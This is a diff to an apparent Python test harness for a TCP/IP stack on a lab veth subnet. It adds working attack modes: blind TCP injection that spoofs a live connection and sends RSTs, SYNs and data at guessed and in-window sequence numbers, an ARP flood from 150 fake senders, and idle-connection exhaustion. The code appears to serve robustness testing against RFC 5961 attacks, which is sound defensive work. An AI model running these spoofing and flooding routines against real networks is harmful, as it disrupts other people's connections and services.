@@ -23,6 +23,18 @@ each prints one JSON line when it is done.
       for S seconds, as fast as Python can, SYNs with the MSS option from
       spoofed sources across the subnet (10.99.0.100-249, random ports and
       sequence numbers) that never complete; the SYN-ACKs go unanswered.
+  inject --iface IF --seconds S
+      a kernel connection to the echo port sends a line every 50 ms and
+      checks the echo, while frames spoofed from it (its MAC, address and
+      port) carry RSTs, SYNs and data at random sequence numbers, and RSTs
+      and SYNs in the window but not exact and data with an ACK 2^30 old
+      (RFC 5961 3, 4, 5); prints whether the echo stayed intact.
+  arpfill --iface IF --seconds S
+      for S seconds, ARP requests for the stack's address from 150
+      made-up on-link senders (10.99.0.100-249), round after round.
+  idle   --iface IF --conns N --seconds S
+      one made-up host (10.99.0.69) opens up to N connections, holds those
+      that open idle for S seconds, then resets them.
   legit  --seconds S [--interval I]
       every I seconds (default 0.05): connect to the echo port, send a
       short message, read it back, close; each attempt bounded by 2 s.
@@ -71,7 +83,7 @@ class RawHost:
     """A made-up host on the veth: builds frames, answers ARP for itself,
     and keeps what the stack sent to it."""
 
-    def __init__(self, iface, mac, ip):
+    def __init__(self, iface, mac, ip, answer_arp=True):
         self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
         self.sock.bind((iface, 0))
         self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
@@ -79,6 +91,8 @@ class RawHost:
         self.sock.setblocking(False)
         self.mac = mac_bytes(mac)
         self.ip = socket.inet_aton(ip)
+        # Off when we speak for an address the kernel owns (it answers).
+        self.answer_arp = answer_arp
         self.stack_ip = socket.inet_aton(STACK_IP)
         self.stack_mac = None
         self.segments = []  # (sport, dport, flags, seq, ack, window, payload length)
@@ -139,7 +153,7 @@ class RawHost:
             if ethertype == ETH_ARP and len(frame) >= 42:
                 op = struct.unpack("!H", frame[20:22])[0]
                 sender_mac, sender_ip, target_ip = frame[22:28], frame[28:32], frame[38:42]
-                if op == 1 and target_ip == self.ip:
+                if op == 1 and target_ip == self.ip and self.answer_arp:
                     self.send(self.arp(2, sender_mac, sender_ip, sender_mac))
                 elif op == 2 and sender_ip == self.stack_ip and frame[0:6] == self.mac:
                     self.stack_mac = sender_mac
@@ -183,7 +197,10 @@ class RawConn:
         return self.irs + 1
 
 
-def open_conns(host, n, window, timeout=10.0):
+def open_conns(host, n, window, timeout=10.0, need=None):
+    """Opens n connections from host; exits unless `need` (default all)
+    complete. Returns those that did."""
+    need = n if need is None else need
     conns = [RawConn(20000 + i, (i * 7919 * 65536) & 0xFFFFFFFF) for i in range(n)]
     by_port = {c.port: c for c in conns}
     for c in conns:
@@ -199,10 +216,10 @@ def open_conns(host, n, window, timeout=10.0):
                 host.send(host.tcp(c.port, c.seq(0), c.ack(), ACK, window))
         host.segments.clear()
     opened = [c for c in conns if c.irs is not None]
-    if len(opened) < n:
-        say({"error": "handshakes", "opened": len(opened), "wanted": n})
+    if len(opened) < need:
+        say({"error": "handshakes", "opened": len(opened), "wanted": need})
         sys.exit(3)
-    return conns
+    return opened
 
 
 def reset_all(host, conns, offset=lambda c: 0, settle=1.0):
@@ -313,6 +330,126 @@ def noread(a):
     say({"attack": "noread", "conns": len(socks), "bytes_sent": sum(sent)})
 
 
+def inject(a):
+    """Blind injection against an ordinary kernel connection: frames that
+    claim to come from it (its address, MAC and port) with guessed
+    sequence numbers, while it keeps echoing lines and checks every byte
+    that comes back."""
+    victim = socket.create_connection((STACK_IP, ECHO_PORT), timeout=5)
+    victim.settimeout(2)
+    cport = victim.getsockname()[1]
+    with open("/sys/class/net/%s/address" % a.iface) as f:
+        mac = f.read().strip()
+    host = RawHost(a.iface, mac, victim.getsockname()[0], answer_arp=False)
+    host.resolve()
+    rnd = random.Random(5961)
+    # The stack's next sequence number and what it expects from us, from
+    # what it sends the victim (the raw socket sees it too).
+    snd_nxt = rcv_nxt = None
+    sent_lines, echoed, bad = 0, b"", False
+    expect = b""
+    counts = {"blind_rst": 0, "blind_syn": 0, "blind_data": 0,
+              "window_rst": 0, "window_syn": 0, "old_ack_data": 0}
+    end = time.monotonic() + a.seconds
+    next_line = time.monotonic()
+    while time.monotonic() < end:
+        host.pump()
+        for (sport, dport, flags, seq, ack, win, plen) in host.segments:
+            if sport == ECHO_PORT and dport == cport and flags & ACK:
+                snd_nxt, rcv_nxt = (seq + plen) & 0xFFFFFFFF, ack
+        host.segments.clear()
+        for _ in range(32):
+            guess = rnd.getrandbits(32)
+            host.send(host.tcp(cport, guess, 0, RST, 0))
+            host.send(host.tcp(cport, rnd.getrandbits(32), 0, SYN, 65535))
+            host.send(host.tcp(cport, rnd.getrandbits(32), rnd.getrandbits(32), PSH | ACK,
+                               65535, b"BLIND-INJECT"))
+            counts["blind_rst"] += 1
+            counts["blind_syn"] += 1
+            counts["blind_data"] += 1
+        if rcv_nxt is not None:
+            # In the window but not exact: challenge ACKs, within the limit.
+            host.send(host.tcp(cport, rcv_nxt + 1000, 0, RST, 0))
+            host.send(host.tcp(cport, rcv_nxt + 1000, 0, SYN, 65535))
+            # The right sequence number, an acknowledgment 2^30 old.
+            host.send(host.tcp(cport, rcv_nxt, snd_nxt - (1 << 30), PSH | ACK, 65535,
+                               b"OLD-ACK-DATA"))
+            counts["window_rst"] += 1
+            counts["window_syn"] += 1
+            counts["old_ack_data"] += 1
+        if time.monotonic() >= next_line:
+            line = b"line %d\n" % sent_lines
+            sent_lines += 1
+            expect += line
+            try:
+                victim.sendall(line)
+                while len(echoed) < len(expect):
+                    part = victim.recv(4096)
+                    if not part:
+                        break
+                    echoed += part
+            except OSError:
+                bad = True
+                break
+            next_line = time.monotonic() + 0.05
+        time.sleep(0.005)
+    # Anything stray would arrive after the last line's echo: wait a bit.
+    reset = bad
+    victim.settimeout(0.5)
+    try:
+        victim.sendall(b"last\n")
+        expect += b"last\n"
+        while len(echoed) < len(expect):
+            part = victim.recv(4096)
+            if not part:
+                break
+            echoed += part
+        victim.settimeout(0.3)
+        extra = victim.recv(4096)
+        echoed += extra
+    except socket.timeout:
+        pass
+    except OSError:
+        reset = True
+    victim.close()
+    say({"attack": "inject", "lines": sent_lines, "echo_intact": echoed == expect,
+         "victim_reset": reset, "echoed_bytes": len(echoed), "expected_bytes": len(expect),
+         "frames": counts})
+
+
+def arpfill(a):
+    """ARP requests for the stack's address from many made-up on-link
+    senders (10.99.0.100-249, a MAC each), over and over."""
+    host = RawHost(a.iface, "02:00:00:00:88:00", "10.99.0.88")
+    senders = [(bytes([2, 0, 0, 0x88, 1, n]), bytes([10, 99, 0, n])) for n in range(100, 250)]
+    sent = 0
+    end = time.monotonic() + a.seconds
+    while time.monotonic() < end:
+        for mac, ip in senders:
+            host.mac, host.ip = mac, ip
+            host.send(host.arp(1, b"\0" * 6, host.stack_ip, b"\xff" * 6))
+            sent += 1
+        host.pump()
+        host.segments.clear()
+        time.sleep(0.01)
+    say({"attack": "arpfill", "senders": len(senders), "requests": sent})
+
+
+def idle(a):
+    """One made-up host opens as many connections as it can and holds
+    them idle, then resets them."""
+    host = RawHost(a.iface, "02:00:00:00:66:04", "10.99.0.69")
+    host.resolve()
+    conns = open_conns(host, a.conns, 65535, timeout=3.0, need=0)
+    end = time.monotonic() + a.seconds
+    while time.monotonic() < end:
+        select.select([host.sock], [], [], 0.05)
+        host.pump()
+        host.segments.clear()
+    reset_all(host, conns)
+    say({"attack": "idle", "tried": a.conns, "opened": len(conns)})
+
+
 def legit(a):
     attempts = []
     end = time.monotonic() + a.seconds
@@ -386,6 +523,16 @@ def main():
     q.add_argument("--conns", type=int, default=100)
     q.add_argument("--bytes", type=int, default=400_000)
     q.add_argument("--seconds", type=float, default=5)
+    q = sub.add_parser("inject")
+    q.add_argument("--iface", required=True)
+    q.add_argument("--seconds", type=float, default=3)
+    q = sub.add_parser("arpfill")
+    q.add_argument("--iface", required=True)
+    q.add_argument("--seconds", type=float, default=3)
+    q = sub.add_parser("idle")
+    q.add_argument("--iface", required=True)
+    q.add_argument("--conns", type=int, default=300)
+    q.add_argument("--seconds", type=float, default=3)
     q = sub.add_parser("legit")
     q.add_argument("--seconds", type=float, required=True)
     q.add_argument("--interval", type=float, default=0.05)
@@ -394,8 +541,8 @@ def main():
     q.add_argument("--seconds", type=float, required=True)
     q.add_argument("--interval", type=float, default=0.1)
     a = p.parse_args()
-    {"ooo": ooo, "tiny": tiny, "synflood": synflood, "noread": noread, "legit": legit,
-     "probe": probe}[a.cmd](a)
+    {"ooo": ooo, "tiny": tiny, "synflood": synflood, "noread": noread, "inject": inject,
+     "arpfill": arpfill, "idle": idle, "legit": legit, "probe": probe}[a.cmd](a)
 
 
 if __name__ == "__main__":
